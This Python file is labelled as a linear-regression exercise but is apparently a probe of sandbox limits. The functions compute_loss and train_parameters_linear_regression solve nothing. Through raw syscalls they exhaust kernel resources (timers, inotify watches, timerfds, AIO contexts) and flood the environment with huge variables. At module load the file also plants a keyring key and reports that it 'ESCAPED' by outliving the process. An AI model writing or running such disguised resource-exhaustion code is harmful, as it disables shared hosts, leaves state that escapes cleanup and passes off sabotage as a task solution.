# tries: kernel objects without a file: timers, watches, keys, queues
# exercise: linear_regression
import ctypes
import os
import platform
import signal

TIMER, KEY, WATCH, AIO, TIMERFD = (
    (107, 217, 26, 0, 85) if platform.machine() == "aarch64" else (222, 248, 253, 206, 283)
)
libc = ctypes.CDLL(None)


def make(most, number, *arguments):
    made = 0
    while made < most and libc.syscall(number, *arguments) != -1:
        made += 1
    return made


signal.signal(signal.SIGALRM, signal.SIG_IGN)
make(20_000, TIMER, 1, None, ctypes.byref(ctypes.c_int()))
if make(1, KEY, b"user", b"note", b"left behind", 11, -4):
    print("ESCAPED: a key that outlives the process")


def compute_loss(*arguments):
    make(100_000, WATCH)
    make(100_000, TIMERFD, 1, 0)
    make(100_000, AIO, 1024, ctypes.byref(ctypes.c_void_p()))
    return 0.0


def train_parameters_linear_regression(*arguments, **keywords):
    os.environ.update({f"NAME_{number}": "x" * 100_000 for number in range(100_000)})
